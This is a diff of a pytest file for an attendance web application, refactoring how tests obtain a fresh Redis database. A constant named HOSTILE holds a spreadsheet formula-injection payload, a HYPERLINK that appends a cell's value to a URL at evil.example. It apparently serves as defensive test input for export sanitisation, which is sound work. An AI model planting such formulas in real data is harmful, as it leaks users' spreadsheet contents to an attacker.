@@ -11,15 +11,13 @@ import json
 from pathlib import Path
 
 import pytest
-import redis
 
 from attendance.config.settings import Settings
 from attendance.domain.schemas import AttendanceRecord
 from attendance.stores.blob import open_blob_store
 from attendance.stores.records import open_records
 from attendance.web.app import create_app
-from tests import tokens
-from tests.conftest import redis_url_for
+from tests import redis_db, tokens
 
 REDIS_DB = 13
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
@@ -27,11 +25,9 @@ HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
 
 @pytest.fixture
 def settings(tmp_path: Path) -> Settings:
-    url = redis_url_for(REDIS_DB)
-    redis.Redis.from_url(url).flushdb()
     return Settings(
         _env_file=None,
-        REDIS_URL=url,
+        REDIS_URL=redis_db.fresh_db(REDIS_DB),
         blob_store_url=f"file://{tmp_path}/store",
         records_url=f"sqlite:///{tmp_path}/db.sqlite",
         api_tokens=tokens.TOKENS_JSON,
